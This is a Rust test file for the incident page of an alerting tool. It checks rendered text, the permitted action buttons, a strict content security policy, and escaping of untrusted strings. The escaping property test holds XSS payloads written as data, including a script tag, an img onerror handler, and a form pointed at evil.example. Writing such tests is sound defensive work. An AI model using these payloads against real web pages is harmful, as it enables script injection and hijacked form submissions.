use proptest::prelude::*;
use serde_json::{Value, json};
use wire::IncidentId;
use wire::link::LinkActions;

use super::*;

const NOW: &str = "2026-03-02T10:02:00Z";

/// An incident's view with this text wherever somebody else's words may stand.
fn view(stage: &str, text: &str) -> Value {
    json!({
        "incident": {
            "incident_id": "uuktw2vtaxvbtylrwo63ea4fze", "generation": 1, "sequence": 2, "change": "updated",
            "namespace": text, "source": "detector", "severity": "sev2", "family": "latency",
            "subject": {"kind": "model", "name": text, "version": text, "segment": text},
            "opened_at": "2026-03-02T10:00:00Z", "changed_at": "2026-03-02T10:01:00Z", "title": text,
            "evidence": {
                "statistic": text, "value": 0.2857, "reference": 0.0018, "unit": text,
                "effect": {"estimate": 0.2839, "lower": 0.1138, "upper": 0.4539}, "evidence": 4.9999,
                "samples": 21, "window": ["2026-03-02T09:59:00Z", "2026-03-02T10:00:00Z"],
                "contributors": (0..8).map(|_| json!({"name": text, "detail": text, "value": 1.0, "reference": 1.0, "evidence": 1.0}))
                    .collect::<Vec<_>>(),
            },
            "context": {
                "owner": text,
                "deployments": [{"model": text, "version": text, "event_time": "2026-03-02T09:55:00Z", "change": text, "by": text}],
                "incomplete": true,
            },
            "drill": true,
        },
        "signal": "open", "stage": stage, "owner": text, "done_by": text,
        "acknowledged_until": "2026-03-02T11:00:00Z", "next_step_at": "2026-03-02T10:05:00Z",
        "pages": [{"kind": "trigger", "receiver": text, "target": text, "decided_at": "2026-03-02T10:00:30Z", "state": {"is": text}}],
        "timeline": [
            {"incident_id": "uuktw2vtaxvbtylrwo63ea4fze", "generation": 1, "sequence": 1, "change": "opened",
             "at": "2026-03-02T10:00:30Z", "by": "tocsin"},
            {"incident_id": "uuktw2vtaxvbtylrwo63ea4fze", "generation": 1, "sequence": 2, "change": "noted",
             "at": "2026-03-02T10:01:30Z", "by": text, "why": text},
        ],
    })
}

fn link(actions: &[LinkAction], person: &str) -> Link {
    Link {
        incident_id: IncidentId::new("uuktw2vtaxvbtylrwo63ea4fze"),
        generation: 1,
        person: person.into(),
        actions: LinkActions::of(actions),
        expires_at: "2026-03-09T10:00:30Z".parse().expect("a time"),
    }
}

fn page(view: Value, link: &Link, notice: Option<&Notice>, draft: &str) -> String {
    let shown: Shown = serde_json::from_value(view).expect("a view");
    let now = NOW.parse().expect("a time");
    // What the same message told of has the same words.
    let (title, stage) = (shown.incident.title.clone(), shown.stage.clone());
    let other = |token: Option<&str>| Other {
        severity: shown.incident.severity,
        title: title.clone(),
        stage: stage.clone(),
        token: token.map(str::to_owned),
    };
    let others = Others { of: vec![other(Some("a-token")), other(None)], total: 500, next: Some(200) };
    incident(&shown, &Around { link, others: &others, notice, draft, nonce: "n1".into(), now })
}

/// The tags of a page, in order and whole.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect()
}

/// What a reader sees: no tags, no style.
fn words(html: &str) -> String {
    let body = html.split_once("<body>").expect("a body").1;
    let texts = body.split('<').map(|part| part.split_once('>').map_or(part, |(_, text)| text));
    texts.collect::<Vec<_>>().join(" ").split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn says_what_where_since_evidence_who_next_and_so_far() {
    let mut view = view("open", "amount");
    view["incident"]["title"] = "fraud 7: 29 % of requests fail, usually 0.2 %".into();
    view["incident"]["evidence"]["unit"] = "share".into();
    let got = words(&page(view, &link(&LinkAction::ALL, "primary"), None, "")).replace('\u{a0}', " ");
    for part in [
        "SEV2 DRILL open fraud 7: 29 % of requests fail, usually 0.2 % Nobody has it yet.",
        "What amount is 28.6 % , normally 0.18 %",
        "Where model amount , version amount , segment amount , owned by amount",
        "Since 2026-03-02 10:00:00 UTC (2 min ago)",
        "off by 28.4 % (between 11.4 % and 45.4 %), 21 records, D = 5",
        "and 2 more",
        "deployment: amount amount amount, 2026-03-02 09:55:00 UTC by amount",
        "the next step is paged at 2026-03-02 10:05:00 UTC (in 3 min)",
        "Playbook: none yet",
        "2026-03-02 10:00:30 UTC opened by tocsin 2026-03-02 10:00:30 UTC paged amount by amount (amount) \
         2026-03-02 10:01:30 UTC note by amount : amount",
        "In the same message SEV2 fraud 7: 29 % of requests fail, usually 0.2 % open SEV2 fraud 7: 29 % of requests \
         fail, usually 0.2 % open and more of 500",
        "You act as primary . The link works for this incident alone, until 2026-03-09 10:00:30 UTC",
    ] {
        assert!(got.contains(part), "{part:?} is missing in {got}");
    }
}

#[test]
fn buttons_are_what_the_link_may_and_the_state_leaves() {
    use LinkAction::{Acknowledge, Mitigate, Note, Resolve};
    for (stage, may, want) in [
        ("open", &LinkAction::ALL[..], "acknowledge note mitigate resolve"),
        ("acknowledged", &LinkAction::ALL, "acknowledge note mitigate resolve"),
        ("mitigated", &LinkAction::ALL, "resolve mitigate note"),
        ("resolved", &LinkAction::ALL, "note"),
        ("closed", &LinkAction::ALL, "note"),
        ("open", &[Acknowledge, Note], "acknowledge note"),
        ("mitigated", &[Acknowledge], ""),
        ("open", &[Resolve, Mitigate], "mitigate resolve"),
    ] {
        let html = page(view(stage, "x"), &link(may, "ada"), None, "");
        let buttons: Vec<_> =
            html.split("name=\"do\" value=\"").skip(1).map(|b| b.split('"').next().unwrap()).collect();
        assert_eq!(buttons.join(" "), want, "{stage} {may:?}");
        assert_eq!(html.contains("<form"), !want.is_empty());
        assert_eq!(html.contains("not_actionable"), want.contains("resolve"));
    }
    let mut later = view("open", "x");
    later["incident"]["generation"] = 2.into();
    let html = page(later, &link(&LinkAction::ALL, "ada"), None, "");
    assert!(!html.contains("<form") && html.contains("earlier alert"));
}

#[test]
fn the_policy_allows_this_style_and_no_script() {
    let html = page(view("open", "x"), &link(&LinkAction::ALL, "ada"), None, "");
    let style = html.split("<style>").nth(1).unwrap().split("</style>").next().unwrap();
    let hash = STANDARD.encode(Sha256::digest(style.as_bytes()));
    assert!(
        POLICY.starts_with(&format!("default-src 'none'; style-src 'sha256-{hash}'; form-action 'self'"))
    );
    assert!(
        !html.contains("<script")
            && !html.contains("style=")
            && !html.contains("http://")
            && !html.contains("https://")
    );
    assert!(html.len() < 16_000, "{} bytes", html.len());
}

proptest! {
    /// Whatever telemetry, people and receivers are called, and whatever they write: the page has the same tags.
    #[test]
    fn no_words_become_markup(
        words in prop_oneof![
            any::<String>(),
            "[<>\"'&;/=a-z -]{0,40}",
            Just("</title><script>alert(1)</script>".to_owned()),
            Just("\"><img src=x onerror=alert(1)>".to_owned()),
            Just("</textarea></form><form action=//evil.example>".to_owned()),
            Just("'; --> <!-- \u{202e}".to_owned()),
        ],
        stage in prop_oneof![Just("open"), Just("acknowledged"), Just("mitigated"), Just("resolved")],
    ) {
        let refused = Notice::Refused(words.clone());
        let plain = Notice::Refused("x".into());
        let got = page(view(stage, &words), &link(&LinkAction::ALL, &words), Some(&refused), &words);
        let want = page(view(stage, "x"), &link(&LinkAction::ALL, "x"), Some(&plain), "x");
        prop_assert_eq!(tags(&got), tags(&want));
        let (told, usual) = (super::plain(&words, &words), super::plain("x", "x"));
        prop_assert_eq!(tags(&told), tags(&usual));
        // The stage comes from us, and still is no markup.
        let odd = page(view(&words, "x"), &link(&LinkAction::ALL, "x"), None, "");
        prop_assert!(!odd.contains("<script") && !odd.contains("<img"));
    }
}
